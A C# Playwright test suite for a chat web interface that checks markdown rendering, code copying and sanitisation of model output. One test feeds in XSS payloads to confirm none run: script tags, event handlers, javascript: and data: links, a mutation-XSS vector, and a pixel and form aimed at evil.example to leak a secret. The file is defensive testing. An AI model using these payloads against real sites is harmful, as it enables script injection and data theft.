using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace LmStudio.AI.WebChat.Tests;

[Collection(BrowserTests.Name)]
public sealed class MarkdownTests(BrowserFixture browser)
{
    [BrowserFact]
    public async Task Markdown_OfEveryKind_IsShown()
    {
        await using ChatSite site = await ChatSite.OpenAsync(browser);

        await site.AskAsync("Show me", """
            # Title

            A **bold**, an *emphasised* and a `coded` word, and a [link](https://example.com/page).

            - one
              1. nested
            - [x] done

            > quoted

            | left | right |
            | --- | ---: |
            | a | 1 |

            ```csharp
            int x = 1; // <b>
            ```

            The area is $a_1 + b_1 * c$ and \(x_i\), which costs $5 or $6.

            $$
            \int_0^1 x^2 \, dx
            $$
            """);

        ILocator markdown = site.Page.Locator(".markdown");
        await Expect(markdown.GetByRole(AriaRole.Heading, new() { Name = "Title", Level = 3 })).ToBeVisibleAsync();
        await Expect(markdown.Locator("strong")).ToHaveTextAsync("bold");
        await Expect(markdown.Locator("em")).ToHaveTextAsync("emphasised");
        await Expect(markdown.Locator("p code")).ToHaveTextAsync("coded");
        await Expect(markdown.GetByRole(AriaRole.Link, new() { Name = "link" })).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
        await Expect(markdown.Locator("ul > li > ol > li")).ToHaveTextAsync("nested");
        await Expect(markdown.Locator("ul > li").Last).ToContainTextAsync("☑ done");
        await Expect(markdown.Locator("blockquote")).ToHaveTextAsync("quoted");
        await Expect(markdown.GetByRole(AriaRole.Cell, new() { Name = "1" })).ToHaveCSSAsync("text-align", "right");
        await Expect(markdown.Locator(".code-head span")).ToHaveTextAsync("csharp");
        await Expect(markdown.Locator("pre code")).ToHaveTextAsync("int x = 1; // <b>\n");
        await Expect(markdown.Locator("pre .hljs-comment")).ToHaveTextAsync("// <b>");
        await Expect(markdown.Locator("span.math")).ToHaveTextAsync(["$a_1 + b_1 * c$", @"\(x_i\)"]);
        await Expect(markdown.Locator("p.math")).ToContainTextAsync(@"\int_0^1 x^2 \, dx");
        await Expect(markdown).ToContainTextAsync("which costs $5 or $6.");
        Assert.Empty(site.Errors);
    }

    [BrowserFact]
    public async Task Code_CopyButton_CopiesTheCode()
    {
        await using ChatSite site = await ChatSite.OpenAsync(browser);
        await site.AskAsync("Code", "```js\nconst a = 1 < 2;\n```");

        await site.Page.GetByRole(AriaRole.Button, new() { Name = "Copy the code" }).ClickAsync();

        Assert.Equal("const a = 1 < 2;\n", await site.Page.EvaluateAsync<string>("navigator.clipboard.readText()"));
    }

    [BrowserFact]
    public async Task Attack_InTheTextOfAModel_RunsNothingAndLoadsNothing()
    {
        await using ChatSite site = await ChatSite.OpenAsync(browser);
        List<string> requests = [];
        site.Page.Request += (_, request) => requests.Add(request.Url);

        await site.AskAsync("Attack me", """
            <script>window.hacked = 1</script>
            <img src=x onerror="window.hacked = 2">
            <svg onload="window.hacked = 3"></svg>
            <iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>
            <form action="https://evil.example"><input name="q" autofocus onfocus="window.hacked = 5"></form>
            <div id="announcer" class="notice" style="position:fixed;inset:0">cover</div>

            [click](javascript:window.hacked=6) ![spy](https://evil.example/pixel.png?secret) [data](data:text/html,<script>window.hacked=7</script>)

            ```"><img src=x onerror=window.hacked=8>
            code
            ```

            $<img src=x onerror=window.hacked=9>$

            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=10&gt;">
            """);

        ILocator markdown = site.Page.Locator(".markdown");
        await Expect(markdown.Locator("script, iframe, form, input, svg, style, [style], [id], [onerror], [onload]")).ToHaveCountAsync(0);
        await Expect(markdown.Locator(".notice")).ToHaveCountAsync(0);
        await Expect(markdown.Locator("a[href^='javascript' i], a[href^='data' i], img")).ToHaveCountAsync(0);
        await Expect(markdown.GetByRole(AriaRole.Link, new() { Name = "Image: spy" })).ToHaveAttributeAsync("href", "https://evil.example/pixel.png?secret");
        Assert.Null(await site.Page.EvaluateAsync<int?>("window.hacked ?? null"));
        Assert.DoesNotContain(requests, static url => url.Contains("evil.example", StringComparison.Ordinal));
    }

    [BrowserFact]
    public async Task Policy_InlineScriptAndMarkup_AreKeptOut()
    {
        await using ChatSite site = await ChatSite.OpenAsync(browser);

        bool isKeptOut = await site.Page.EvaluateAsync<bool>(
            """
            () => {
              const script = document.createElement('script');
              try { script.text = 'window.hacked = 1'; document.body.append(script); } catch { }
              try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked = 2">'); return false; } catch { return window.hacked === undefined; }
            }
            """);

        Assert.True(isKeptOut);
    }
}
